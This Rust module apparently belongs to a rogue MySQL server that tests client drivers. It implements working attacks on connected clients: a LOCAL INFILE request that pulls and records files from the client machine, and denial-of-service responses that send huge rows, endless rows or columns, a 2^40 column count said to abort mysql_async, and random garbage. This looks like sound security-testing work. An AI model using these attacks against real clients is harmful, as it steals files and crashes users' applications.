//! Attacks on authenticated clients.

use std::io;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use super::recording::Recording;
use super::{RogueMode, responses};
use crate::fake_server::packets;
use crate::protocol::{MAX_PAYLOAD, read_packet, write_head, write_packet};

/// Size of a write.
const CHUNK_SIZE: usize = 64 << 10;

/// Attacks the client in the response to a statement. Returns false if the mode attacks only during authentication.
pub(super) async fn run<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    statement: &str,
    mode: &RogueMode,
    recording: &Recording,
) -> io::Result<bool> {
    let columns = responses::column_count(statement).unwrap_or(1);
    match mode {
        RogueMode::FullAuthentication
        | RogueMode::ClearPassword
        | RogueMode::OldPassword
        | RogueMode::Sha256Password => return Ok(false),
        _ => recording.attacked(),
    }
    match mode {
        RogueMode::LocalInfile(path) => request_file(stream, path, recording).await?,
        RogueMode::HugePacket { bytes } => huge_row(stream, columns, *bytes, recording).await?,
        RogueMode::EndlessRows => endless_rows(stream, columns, recording).await?,
        RogueMode::EndlessColumns => {
            write_packet(stream, 1, &MANY_COLUMNS).await?;
            let column = packets::column(&"c".repeat(64));
            repeat(stream, 2, &column, recording).await?;
        }
        RogueMode::HugeColumnCount => {
            write_packet(stream, 1, &HUGE_COUNT).await?;
            stream.flush().await?;
            wait_for_end(stream).await?;
        }
        _ => garbage(stream, recording).await?,
    }
    Ok(true)
}

/// Column count of 2^23 in the three-byte encoding.
/// A client cannot hold so many columns, but the driver can allocate them.
const MANY_COLUMNS: [u8; 4] = [0xfd, 0, 0, 0x80];
/// 2^40 in the eight-byte encoding: `mysql_async` allocates 32 TiB for it, and the process aborts.
const HUGE_COUNT: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];

/// Requests a file and records its chunks as packets.
async fn request_file<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    path: &str,
    recording: &Recording,
) -> io::Result<()> {
    write_packet(stream, 1, &[&[0xfb], path.as_bytes()].concat()).await?;
    stream.flush().await?;
    loop {
        let (sequence, chunk) = read_packet(stream).await?;
        if chunk.is_empty() {
            return write_packet(stream, sequence.wrapping_add(1), &packets::OK).await;
        }
        recording.received(chunk);
    }
}

/// Sends one row with `1` in every column except the last, which has this size.
async fn huge_row<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    columns: usize,
    bytes: u64,
    recording: &Recording,
) -> io::Result<()> {
    let mut sequence = responses::send_columns(stream, columns).await?;
    let mut start: Vec<u8> = b"\x011".repeat(columns.saturating_sub(1));
    start.push(0xfe);
    start.extend_from_slice(&bytes.to_le_bytes());
    let mut left = usize::try_from(bytes).map_err(io::Error::other)? + start.len();
    let filler = vec![b'x'; CHUNK_SIZE];
    loop {
        let payload = left.min(MAX_PAYLOAD);
        write_head(stream, sequence, payload).await?;
        sequence = sequence.wrapping_add(1);
        let mut unsent = payload;
        while unsent > 0 {
            let source = if start.is_empty() { &filler } else { &start };
            let chunk = source.get(..source.len().min(unsent)).unwrap_or_default();
            stream.write_all(chunk).await?;
            recording.sent(chunk.len());
            unsent -= chunk.len();
            start.clear();
        }
        left -= payload;
        // A full packet is followed by another packet, which may be empty.
        if payload < MAX_PAYLOAD {
            return write_packet(stream, sequence, &packets::EOF).await;
        }
    }
}

async fn endless_rows<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    columns: usize,
    recording: &Recording,
) -> io::Result<()> {
    let sequence = responses::send_columns(stream, columns).await?;
    let statement = "x".repeat(1000);
    let mut values: Vec<Option<&[u8]>> = vec![Some(b"1"); columns];
    if let Some(last) = values.last_mut() {
        *last = Some(statement.as_bytes());
    }
    repeat(stream, sequence, &packets::row(&values), recording).await
}

/// Sends the same payload until the client closes the connection.
async fn repeat<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    mut sequence: u8,
    payload: &[u8],
    recording: &Recording,
) -> io::Result<()> {
    loop {
        write_packet(stream, sequence, payload).await?;
        recording.sent(payload.len());
        sequence = sequence.wrapping_add(1);
    }
}

/// Sends 1 MiB of pseudo-random bytes (xorshift32), then closes the connection.
async fn garbage<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S, recording: &Recording) -> io::Result<()> {
    let mut state = 0x9e37_79b9_u32;
    for _ in 0..16 {
        let chunk: Vec<u8> = std::iter::repeat_with(|| {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            state.to_le_bytes()[0]
        })
        .take(CHUNK_SIZE)
        .collect();
        stream.write_all(&chunk).await?;
        recording.sent(chunk.len());
    }
    stream.shutdown().await
}

async fn wait_for_end(stream: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    let mut ignored = [0; 1024];
    while stream.read(&mut ignored).await? > 0 {}
    Ok(())
}
